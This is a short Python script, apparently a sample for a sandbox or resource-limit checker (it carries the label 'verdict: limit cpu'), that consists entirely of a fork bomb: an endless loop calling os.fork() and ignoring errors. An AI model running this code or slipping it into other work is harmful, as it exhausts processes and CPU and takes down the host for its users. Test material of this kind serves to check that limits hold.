# Forks without end, whatever comes.
# verdict: limit cpu
# ruff: noqa
import os
while True:
    try:
        os.fork()
    except OSError:
        pass
